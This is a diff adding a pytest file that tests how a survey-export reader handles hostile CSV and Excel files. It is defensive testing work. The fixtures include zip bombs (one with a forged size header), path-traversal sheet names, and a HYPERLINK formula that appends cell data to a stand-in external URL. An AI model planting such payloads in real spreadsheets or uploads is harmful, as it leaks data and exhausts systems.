@@ -1,0 +1,144 @@
+"""Hostile files are refused with a sentence that says what must hold, or made harmless, and never read whole first."""
+
+import io
+import subprocess
+import sys
+import time
+import zipfile
+
+import openpyxl
+import pytest
+
+from cxstats import read_export
+from cxstats.responses.exports import excel, streams
+
+
+@pytest.mark.parametrize("letter", ["x", '"x', "é"])
+def test_a_line_longer_than_a_record_may_be(tmp_path, letter):
+    path = tmp_path / "long.csv"
+    path.write_text("a,b\n1,2\n" + letter * (streams.LONGEST_RECORD + 1))
+    with pytest.raises(ValueError, match=r"long\.csv.* is longer than 10,000,000 bytes, the most that one record"):
+        read_export(path)
+
+
+def test_a_quote_that_swallows_more_than_a_record_may_have(tmp_path):
+    path = tmp_path / "long.csv"
+    path.write_text('a,b\n1,2\n3,"four\n' + "5,six\n" * 2_000_000)
+    with pytest.raises(ValueError, match=r"the record that begins in line 3 is longer than 10,000,000 bytes"):
+        read_export(path)
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="peak memory is told by /proc")
+def test_a_line_of_a_gigabyte_is_never_in_memory(tmp_path):
+    path = tmp_path / "long.csv"
+    with path.open("wb") as file:
+        file.write(b"a,b\n1,")
+        # Nothing is written to the disk for what a file skips: it reads as NUL bytes.
+        file.seek(1_000_000_000)
+        file.write(b"2\n")
+    code = (
+        "import sys; from cxstats import read_export\n"
+        "def peak():\n"
+        "    return next(int(line.split()[1]) for line in open('/proc/self/status') if line.startswith('VmHWM'))\n"
+        "before = peak()\n"
+        "try: read_export(sys.argv[1])\n"
+        "except ValueError as refusal: print((peak() - before) // 1024, refusal)\n"
+    )
+    start = time.perf_counter()
+    told = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, check=True).stdout
+    megabytes, refusal = told.split(maxsplit=1)
+    assert int(megabytes) < 150
+    assert "long.csv" in refusal
+    assert time.perf_counter() - start < 30
+
+
+def book(tmp_path, rows, title="Sheet", name="book.xlsx"):
+    workbook = openpyxl.Workbook()
+    workbook.active.title = title
+    for row in rows:
+        workbook.active.append(row)
+    workbook.save(tmp_path / name)
+    return tmp_path / name
+
+
+def test_a_zip_bomb_is_refused_before_it_unpacks(tmp_path):
+    path = book(tmp_path, [["ces"], [5]])
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/worksheets/sheet9.xml", b" " * 60_000_000)
+    with pytest.raises(ValueError, match=r"book\.xlsx would unpack to 60,\d+,\d+ bytes, \d+ times its size; at most"):
+        read_export(path)
+
+
+def test_a_bomb_that_understates_its_size_is_refused(tmp_path):
+    path = book(tmp_path, [["ces"], [5]])
+    with zipfile.ZipFile(path) as whole:
+        parts = {name: whole.read(name) for name in whole.namelist()}
+    parts["xl/worksheets/sheet1.xml"] += b" " * 60_000_000
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, part in parts.items():
+            archive.writestr(name, part)
+    size = len(parts["xl/worksheets/sheet1.xml"])
+    content = path.read_bytes().replace(size.to_bytes(4, "little"), (1_000).to_bytes(4, "little"))
+    path.write_bytes(content)
+    with pytest.raises(ValueError, match=r"book\.xlsx is a zip archive or a damaged Excel file"):
+        read_export(path)
+
+
+def test_a_workbook_larger_than_any_sheet_is_refused(tmp_path, monkeypatch):
+    path = book(tmp_path, [["ces"], [5]])
+    monkeypatch.setattr(excel, "MOST_UNPACKED", 1_000)
+    with pytest.raises(ValueError, match=r"at most 1,000 bytes and 200 times are unpacked\. Export it as CSV"):
+        read_export(path)
+
+
+def test_formulas_stay_text(tmp_path):
+    command = '=HYPERLINK("http://example.org/?"&A1,"click")'
+    survey = read_export(book(tmp_path, [["ces", "said"], [5, command], ["=1+1", "fine"]]))
+    assert survey.responses["said"].tolist() == [command, "fine"]
+    assert survey.responses["ces"].tolist() == ["5", "=1+1"]
+    assert "2 cells hold formulas; they are kept as text and not computed" in survey.source.notes
+    path = tmp_path / "e.csv"
+    path.write_text("ces,said\n5,=1+1\n4,@SUM(A1)\n3,'=cmd\n2,'tis\n")
+    survey = read_export(path)
+    assert survey.responses["said"].tolist() == ["=1+1", "@SUM(A1)", "=cmd", "'tis"]
+    assert "the apostrophe that keeps a cell from being a formula removed in 1 cells" in survey.source.notes
+
+
+@pytest.mark.parametrize("title", ["..", "x..y", "C&A <b>", "etc passwd%00"])
+def test_a_sheet_name_is_a_name_only(tmp_path, title):
+    survey = read_export(book(tmp_path, [["ces"], [5]], title), sheet=title)
+    assert survey.source.format == f"Excel, sheet {title!r}"
+
+
+def test_a_sheet_named_like_a_path_opens_no_file(tmp_path):
+    (tmp_path / "secret.xml").write_text("secret")
+    path = book(tmp_path, [["ces"], [5]])
+    with zipfile.ZipFile(path) as whole:
+        parts = {name: whole.read(name) for name in whole.namelist()}
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b'name="Sheet"', b'name="../../secret.xml"')
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"/xl/worksheets/sheet1.xml", str(tmp_path / "secret.xml").encode()
+    )
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, part in parts.items():
+            archive.writestr(name, part)
+    with pytest.raises(ValueError, match=r"book\.xlsx|sheet"):
+        read_export(path)
+
+
+def test_nul_bytes_are_letters_or_refused(tmp_path):
+    path = tmp_path / "nul.csv"
+    path.write_bytes(b"a,b\n" + b"1,fine\n" * 1_000 + b"2,no\x00thing\n")
+    assert read_export(path).responses["b"].iloc[-1] == "no\x00thing"
+    path.write_bytes(b"a,b\n" + b"\x00" * 500)
+    with pytest.raises(ValueError, match="nul.csv"):
+        read_export(path)
+
+
+def test_an_archive_behind_text_is_no_workbook(tmp_path):
+    stored = io.BytesIO()
+    with zipfile.ZipFile(stored, "w") as archive:
+        archive.writestr("x", "y")
+    path = tmp_path / "e.csv"
+    path.write_bytes(b"a,b\n1,2\n" * 2_000 + stored.getvalue())
+    assert read_export(path).source.format.startswith("text")
